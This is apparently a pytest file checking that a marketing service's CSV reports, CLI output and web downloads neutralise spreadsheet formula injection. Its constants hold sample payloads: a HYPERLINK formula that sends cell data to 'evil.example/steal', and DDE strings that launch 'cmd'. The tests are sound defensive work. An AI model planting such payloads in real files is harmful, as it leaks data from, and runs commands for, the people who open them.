"""Formula injection (#12, item 7): text that a spreadsheet would run as a formula reaches
no CSV the service writes for people -- the reports' CSV from the library, the CLI's
``--format csv`` and the web download -- while numbers, negative ones included, stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from click.testing import CliRunner
from sqlalchemy import Engine, select
from sqlalchemy.orm import Session

from marketing.cli import main
from marketing.models import Community, Post, Role
from marketing.reports import campaign_report, programme_overview
from marketing.reports.exports import to_csv
from marketing.spreadsheet import csv_text, spreadsheet_cell
from marketing.web import create_app
from tests.support.web import WebClient, add_user
from tests.test_reports import ACTIVE, CAMPAIGN, END, START, seed

HYPERLINK = '=HYPERLINK("https://evil.example/steal?x="&A1,"ดูรายละเอียด")'
DDE = "+cmd|' /C calc'!A0"


def rows_of(body: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body.removeprefix("\ufeff"))))


def poison(session: Session) -> None:
    """The attack as staff would type it: a post whose label is a formula, a community
    whose Thai name is a DDE command, and a channel error that begins with ``@``."""
    seed(session)
    post = session.scalars(select(Post).where(Post.occurrence_key == "yt")).one()
    post.content = {"title": HYPERLINK}
    failed = session.scalars(select(Post).where(Post.occurrence_key == "failed")).one()
    failed.last_error = "@SUM(1+1)*cmd|' /C calc'!A0"
    failed.action_hint = "\t=1+1"
    community = session.scalars(select(Community).where(Community.slug == ACTIVE)).one()
    community.name_th = DDE
    session.commit()


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+66 81 234 5678", "'+66 81 234 5678"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("ผ้าทอ = ของดี", "ผ้าทอ = ของดี"),
        ("", ""),
    ],
)
def test_text_that_begins_like_a_formula_gets_a_leading_quote(text: str, written: str) -> None:
    assert spreadsheet_cell(text) == written


def test_numbers_stay_numbers_even_when_negative() -> None:
    assert spreadsheet_cell(-12) == -12
    assert spreadsheet_cell(-0.25) == -0.25
    assert csv_text(["change"], [[-12], [-0.25]]) == "change\n-12\n-0.25\n"


def test_a_campaign_report_csv_neutralises_the_label_and_the_channel_error(
    session: Session,
) -> None:
    poison(session)
    rows = {
        r["post_id"]: r
        for r in rows_of(to_csv(campaign_report(session=session, campaign_slug=CAMPAIGN)))
    }
    labels = [r["label"] for r in rows.values()]
    assert "'" + HYPERLINK in labels
    assert HYPERLINK not in labels
    failed = next(r for r in rows.values() if r["state"] == "failed")
    assert failed["last_error"].startswith("'@")
    assert failed["action_hint"] == "'\t=1+1"
    assert all(
        not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
        for row in rows.values()
        for cell in row.values()
    )


def test_an_overview_csv_neutralises_a_community_name_and_keeps_negative_changes_numeric(
    session: Session,
) -> None:
    poison(session)
    body = to_csv(programme_overview(session=session, start=START, end=END))
    rows = rows_of(body)
    names = {r["community_name_th"] for r in rows if r["community_slug"] == ACTIVE}
    assert names == {"'" + DDE}
    changes = [
        float(r[name])
        for r in rows
        for name in (
            "change_posts_fraction",
            "change_views_fraction",
            "change_interactions_fraction",
            "change_reach_fraction",
        )
        if r[name]
    ]
    assert any(value < 0 for value in changes), "the seed has falling figures"
    assert not any(cell.startswith("'-") for r in rows for cell in r.values())


def test_the_cli_csv_is_neutralised(session: Session) -> None:
    poison(session)
    result = CliRunner().invoke(
        main, ["report", "campaign", CAMPAIGN, "--format", "csv"], catch_exceptions=False
    )
    assert result.exit_code == 0, result.output
    labels = [r["label"] for r in rows_of(result.output)]
    assert "'" + HYPERLINK in labels and HYPERLINK not in labels
    overview = CliRunner().invoke(
        main,
        [
            "report",
            "overview",
            "--from",
            START.isoformat(),
            "--to",
            END.isoformat(),
            "--format",
            "csv",
        ],
        catch_exceptions=False,
    )
    assert "'" + DDE in {r["community_name_th"] for r in rows_of(overview.output)}


def test_the_web_download_is_neutralised(session: Session, engine: Engine) -> None:
    poison(session)
    add_user(engine, "viewer", Role.VIEWER)
    client = WebClient(create_app(engine=engine)).sign_in("viewer")
    try:
        answer = client.get(f"/reports/campaign/{CAMPAIGN}?format=csv")
        assert answer.status_code == 200
        labels = [r["label"] for r in rows_of(answer.content.decode("utf-8"))]
        assert "'" + HYPERLINK in labels and HYPERLINK not in labels
        community = client.get(f"/reports/community/{ACTIVE}?format=csv&from={START}&to={END}")
        assert community.status_code == 200
        assert {r["community_name_th"] for r in rows_of(community.content.decode("utf-8"))} == {
            "'" + DDE
        }
    finally:
        client.close()
